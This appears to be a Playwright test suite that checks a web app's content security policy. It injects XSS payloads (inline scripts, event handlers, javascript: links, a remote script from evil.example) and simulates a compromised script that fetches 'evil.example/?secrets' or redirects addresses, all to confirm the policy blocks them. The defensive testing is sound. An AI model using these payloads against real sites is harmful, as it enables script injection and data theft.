import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, expect, type Page, test } from '@playwright/test'
import { headersFor } from '../../src/build/policy.ts'
import { expectDetected, watchPolicy } from './support/violations.ts'

// Attacks by injected markup, by a compromised script and by framing; each works with the policy bypassed.

/** /terms with `markup` injected; an attack succeeded once its name is in `window.hits`. */
async function open(browser: Browser, bypassCSP: boolean, markup = '') {
  const context = await browser.newContext({ bypassCSP })
  const page = await context.newPage()
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: 'window.hits.push("a script of another site")',
      headers: { 'access-control-allow-origin': '*' },
    }),
  )
  await page.route('/terms', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('<body>', () => `<body>${markup}`)
    await route.fulfill({ response, body })
  })
  await page.addInitScript(() => {
    Object.assign(window, { blocked: 0, hits: [] })
    document.addEventListener('securitypolicyviolation', () =>
      Reflect.set(window, 'blocked', Reflect.get(window, 'blocked') + 1),
    )
  })
  await page.goto('/terms')
  return page
}

/** How often the policy was violated in the frames of a page. */
async function blocked(page: Page): Promise<number> {
  const counts = page.frames().map((frame) => frame.evaluate(() => Number(Reflect.get(window, 'blocked'))))
  return (await Promise.all(counts)).reduce((all, count) => all + count, 0)
}

const hit = (what: string, where = 'window') => `${where}.hits.push('${what}')`
const markups: Record<string, string> = {
  'a script': `<script>${hit('a script')}</script>`,
  'a module': `<script type="module">${hit('a module')}</script>`,
  'a script in data': `<script src="data:text/javascript,${hit('a script in data')}"></script>`,
  'a script of another site': '<script src="https://evil.example/hit.js"></script>',
  'an event handler': `<img src="/nothing.png" alt="" onerror="${hit('an event handler')}">`,
  'a handler of a drawing': `<svg onload="${hit('a handler of a drawing')}"></svg>`,
  'a frame with a script': `<iframe srcdoc="<script>${hit('a frame with a script', 'parent')}</script>"></iframe>`,
  'a link of javascript': `<a id="press" href="javascript:void(${hit('a link of javascript')})">press</a>`,
}
test('no markup in the page runs a script, by whatever means', async ({ browser }) => {
  const kinds = Object.keys(markups).sort()
  for (const bypassed of [true, false]) {
    const page = await open(browser, bypassed, Object.values(markups).join(''))
    const hits = () => page.evaluate(() => [...Reflect.get(window, 'hits')].sort())
    await page.locator('#press').click()
    if (bypassed) await expect.poll(hits).toEqual(kinds)
    else await expect.poll(() => blocked(page)).toBeGreaterThanOrEqual(kinds.length)
    expect(await hits()).toEqual(bypassed ? kinds : [])
    await page.context().close()
  }
})

/** What a compromised script could do; each returns whether it succeeded. */
const actions: Record<string, () => boolean | Promise<boolean>> = {
  // In a task of its own: code that the debugger evaluates directly is exempt.
  'run text': () =>
    new Promise((resolve) => {
      setTimeout(() => {
        try {
          resolve(new Function('return true')())
        } catch {
          resolve(false)
        }
      })
    }),
  'make a policy for markup': () => {
    const types = (
      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    ).trustedTypes
    return Boolean(types.createPolicy('evil', { createHTML: (text: string) => text }))
  },
  'read from another site': async () => (await fetch('https://evil.example/?secrets')).ok,
  'start a worker of its own': async () =>
    new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      worker.onmessage = () => resolve(true)
      worker.onerror = () => resolve(false)
    }),
  'write markup': () => {
    document.body.innerHTML = '<b id="written"></b>'
    return document.querySelector('#written') !== null
  },
  'move every relative address': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
    return document.baseURI.startsWith('https://evil.example/')
  },
}
test('a compromised script can do none of these', async ({ browser }) => {
  for (const bypassed of [true, false]) {
    const page = await open(browser, bypassed)
    for (const [what, action] of Object.entries(actions))
      expect(await page.evaluate(action).catch(() => false), what).toBe(bypassed)
    await page.context().close()
  }
})

test('a form does not send what was typed to another site', async ({ browser }) => {
  const form = '<form action="https://evil.example/"><button id="press">Sign in</button></form>'
  for (const bypassed of [true, false]) {
    const page = await open(browser, bypassed, form)
    const sent: string[] = []
    page.on('request', (request) => request.url().includes('evil') && sent.push(request.url()))
    await page.locator('#press').click({ noWaitAfter: true })
    if (bypassed) await expect.poll(() => sent).toEqual(['https://evil.example/?'])
    else await expect.poll(() => blocked(page)).toBeGreaterThan(0)
    expect(sent.length).toBe(bypassed ? 1 : 0)
    await page.context().close()
  }
})

test('no site can show a page of this one in a frame', async ({ page, baseURL }) => {
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    const frame = (path: string) => `<iframe src="${baseURL}${path}"></iframe>`
    response.end(
      `<h1>Win</h1>${['/', '/auth', '/dashboard', '/admin/users', '/nowhere'].map(frame).join('')}`,
    )
  }).listen(0)
  try {
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`)
    await page.waitForLoadState('networkidle')
    const frames = page.frames().slice(1)
    expect(frames).toHaveLength(5)
    for (const frame of frames) await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
  } finally {
    server.close()
  }
})

// Every test of this folder fails on a violation of the content security policy (`support/test.ts`).

test('a violation of the policy is detected', async ({ browser }) => {
  const context = await browser.newContext()
  await expectDetected(context, await watchPolicy(context))
  await context.close()
})

test('every kind of response has the headers of the built file', async ({ request }) => {
  const rules = await readFile('dist/_headers', 'utf8')
  const page = await (await request.get('/dashboard')).text()
  const asset = /src="(\/assets\/[^"]+)"/.exec(page)?.[1] ?? ''
  for (const path of ['/', '/auth', '/dashboard', '/admin/users', '/nowhere', '/sw.js', '/og.png', asset]) {
    const response = await request.get(path, { headers: { accept: 'text/html' } })
    const expected = headersFor(rules, path)
    expect(expected.length).toBeGreaterThan(6)
    for (const [name, value] of expected) {
      expect(response.headers()[name.toLowerCase()], `${name} of ${path}`).toBe(value)
    }
  }
  expect((await request.get('/robots.txt')).headers()['content-type']).toContain('text/plain')
  const picture = await request.get('/storage/v1/object/public/branding/email-logo')
  expect(picture.headers()).toMatchObject({
    'content-type': 'image/png',
    'x-content-type-options': 'nosniff',
  })
})
